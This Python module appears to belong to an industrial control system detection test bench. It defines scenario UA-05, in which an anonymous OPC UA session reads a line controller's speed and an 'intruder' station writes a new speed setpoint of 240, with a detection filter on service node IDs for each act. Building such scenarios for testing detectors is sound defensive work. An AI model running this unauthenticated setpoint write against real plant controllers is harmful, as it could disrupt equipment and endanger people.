"""UA-05 anonymous session, accepted by the server; in one act followed by a write.

Benign twin: mes writes the same set point in a session with user name and password.
"""

from __future__ import annotations

import asyncio

from asyncua import ua

from ..plan import machine
from ..plant.ua_client import client
from ..plant.ua_names import LINE, node_id
from .base import Act, Attack, text


def read_only() -> None:
    asyncio.run(_session("historian", write=False))


def and_write() -> None:
    asyncio.run(_session("intruder", write=True))


async def _session(station: str, write: bool) -> None:
    async with client(machine(station), "ua-line", user=None) as session:
        await session.get_node(node_id(f"{LINE}.ActualSpeed")).read_value()
        if write:
            await session.get_node(node_id(f"{LINE}.SpeedSetpoint")).write_value(
                ua.Variant(240.0, ua.VariantType.Double)
            )


ATTACK = Attack(
    "UA-05",
    text("匿名 OPC UA 会话", "An anonymous OPC UA session"),
    (
        Act(
            "read",
            "historian",
            "ua-line",
            text(
                "历史数据服务器以匿名身份登录产线控制器并读取",
                "The historian logs on to the line controller anonymously and reads",
            ),
            "asyncua",
            "opcua.servicenodeid.numeric in {467, 631}",
            read_only,
            also=("UA-01", "UA-02", "UA-11", "UA-04"),
        ),
        Act(
            "write",
            "intruder",
            "ua-line",
            text(
                "新设备匿名登录产线控制器，把速度设定值改为 240",
                "A new device logs on to the line controller anonymously and sets the speed to 240",
            ),
            "asyncua",
            "opcua.servicenodeid.numeric in {467, 631, 673}",
            and_write,
            also=("NET-01", "NET-06", "UA-01", "UA-02", "UA-14", "UA-15", "COR-02", "UA-04"),
        ),
    ),
)
